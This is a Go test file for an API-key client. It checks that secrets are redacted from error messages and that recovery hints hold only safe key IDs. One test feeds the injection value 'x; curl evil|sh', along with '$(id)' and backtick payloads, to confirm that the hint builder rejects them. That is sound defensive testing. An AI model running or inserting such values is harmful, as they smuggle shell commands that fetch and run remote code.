package client

import (
	"context"
	"io"
	"net/http"
	"strings"
	"testing"
	"testing/synctest"
	"time"

	"keyctl/client/wire"
	"keyctl/internal/errs"
	"keyctl/internal/redact"
	"keyctl/internal/secrets"
)

// createdBy makes a key called name on a console that answers so and lists
// nothing new. What an error would show is redacted as the command does it.
func createdBy(t *testing.T, name string, status int, answer string) (created Created, e *errs.Error, shown string) {
	t.Helper()
	w := newWorld(t, func(rw http.ResponseWriter, r *http.Request) {
		if r.Method == http.MethodGet {
			write(rw, 200, `{"keys":[]}`)
			return
		}
		write(rw, status, answer)
	})
	var r redact.Redactor
	r.RegisterPrefix(testPrefix)
	created, err := w.Create(t.Context(), Draft{Name: name}, Before{}, func(_ int, raw secrets.Secret) error { wire.RegisterTexts(&r, raw); return nil })
	if err == nil {
		return created, nil, ""
	}
	e = own(t, err)
	return created, e, string(r.Redact([]byte(e.What + "\n" + e.Hint)))
}

func TestANameIsNeverTakenForTheSecret(t *testing.T) {
	t.Parallel()
	const name = "tk_ci_pipeline_production"
	for _, member := range []string{"name", "key_prefix", "expires_at", "owner_id", "uuid"} {
		created, e, _ := createdBy(t, name, 201, `{"data":{"id":"k1","`+member+`":"`+name+`"}}`)
		if e == nil || e.Kind != errs.UnknownOutcome || e.KeyID != "k1" || !created.Secret.IsZero() {
			t.Errorf("%s: got %v, %v", member, created, e)
		}
		created, e, _ = createdBy(t, name, 201, `{"data":{"id":"k1","`+member+`":"`+name+`","unheard_of":"`+testSecret+`"}}`)
		if e != nil || created.Secret.Reveal() != testSecret {
			t.Errorf("%s beside a secret: got %v", member, e)
		}
	}
}

func TestASecretThatAFailureQuotesIsBlackedOut(t *testing.T) {
	t.Parallel()
	for status, kind := range map[int]errs.Kind{500: errs.UnknownOutcome, 409: errs.Conflict, 400: errs.Failed, 302: errs.UnknownOutcome} {
		for _, text := range []string{"it failed after issuing " + testSecret, testSecret, strings.Repeat(".", 60) + " " + testSecret} {
			for _, beside := range []string{"", `,"plaintext":"sk_live_0123456789"`} {
				if beside != "" { // its beginning is none that the console documents
					text = strings.Replace(text, testSecret, "sk_live_0123456789", 1)
				}
				created, e, shown := createdBy(t, "ci", status, `{"error":"`+text+`"`+beside+`}`)
				if e == nil || e.Kind != kind || !strings.Contains(shown, "[redacted]") || strings.Contains(shown, testSecret[:12]) || strings.Contains(shown, "sk_live") {
					t.Errorf("%d: got %v, %s", status, created, shown)
				}
			}
		}
	}
}

func TestASecretInAFailureIsDeliveredBesideTheError(t *testing.T) {
	t.Parallel()
	for _, status := range []int{500, 502, 408, 302} {
		created, e, shown := createdBy(t, "ci", status, madeKey)
		if e == nil || e.Kind != errs.UnknownOutcome || e.KeyID != "k1" || created.Key.ID != "k1" || created.Secret.Reveal() != testSecret || strings.Contains(shown, testSecret[:12]) {
			t.Errorf("%d: got %v, %s", status, created, shown)
		}
	}
}

func TestTheIDIsNeverBlackedOut(t *testing.T) {
	t.Parallel()
	const id = "9f7b3a5c-0000-4000-8000-123456789abc"
	for _, more := range []string{`"key_id":"` + id + `"`, `"resource":"` + id + `"`, `"a":{"b":"` + id + `"}`} {
		_, e, shown := createdBy(t, "ci", 201, `{"data":{"id":"`+id+`",`+more+`}}`)
		if e == nil || !strings.Contains(e.What, `the key "`+id+`" exists`) || strings.Contains(shown, "[redacted]") {
			t.Errorf("%s: got %s", more, shown)
		}
	}
}

func TestNoHintHoldsMoreThanAnID(t *testing.T) {
	t.Parallel()
	const id = "x; curl evil|sh"
	_, e, _ := createdBy(t, "ci", 201, `{"id":"`+id+`"}`)
	if e == nil || e.KeyID != "" || strings.Contains(e.What+e.Hint, "curl") {
		t.Errorf("got %v, %s", e, e.Hint)
	}
	for hinted, want := range map[string]bool{"k1": true, id: false, "": false, "a b": false, "$(id)": false, "`id`": false, "a\nb": false} {
		if got := strings.Contains(LostHint(hinted), "`revoke --id "+hinted+"`"); got != want {
			t.Errorf("%q: %s", hinted, LostHint(hinted))
		}
	}
	for _, rows := range []string{`{"id":"` + id + `","name":"ci"}`, `{"id":"` + id + `","name":"ci"},{"id":"k1","name":"ci"}`} {
		w := newWorld(t, func(rw http.ResponseWriter, r *http.Request) {
			if r.Method == http.MethodPost {
				write(rw, 500, "")
				return
			}
			write(rw, 200, `{"keys":[`+rows+`]}`)
		})
		_, err := w.Create(t.Context(), Draft{Name: "ci"}, Before{}, keepRaw)
		if e := own(t, err); len(CandidatesOf(e)) != strings.Count(rows, "id") || strings.Contains(e.What+e.Hint, "curl") || strings.Contains(rows, "k1") != strings.Contains(e.What, "k1, and 1 more") {
			t.Errorf("got %v, %s", CandidatesOf(e), e.Hint)
		}
	}
}

func TestTheReadingAfterAnUnknownOutcomeEndsWithTheCommand(t *testing.T) {
	t.Parallel()
	synctest.Test(t, func(t *testing.T) {
		ctx, cancel := context.WithCancel(t.Context())
		w := newWorld(t, func(rw http.ResponseWriter, r *http.Request) {
			if r.Method == http.MethodPost {
				write(rw, 500, "")
				return
			}
			time.AfterFunc(time.Second, cancel)
			write(rw, 200, `{"keys":[`)
			for r.Context().Err() == nil {
				_, _ = io.WriteString(rw, `{"id":"a"},`)
				_ = http.NewResponseController(rw).Flush()
				time.Sleep(100 * time.Millisecond)
			}
		})
		start := time.Now()
		_, err := w.Create(ctx, Draft{Name: "ci"}, Before{}, keepRaw)
		if e := own(t, err); e.Kind != errs.UnknownOutcome || !strings.Contains(e.Hint, "look with `list`") || time.Since(start) > 2*time.Second {
			t.Errorf("got %v after %s", err, time.Since(start))
		}
	})
}
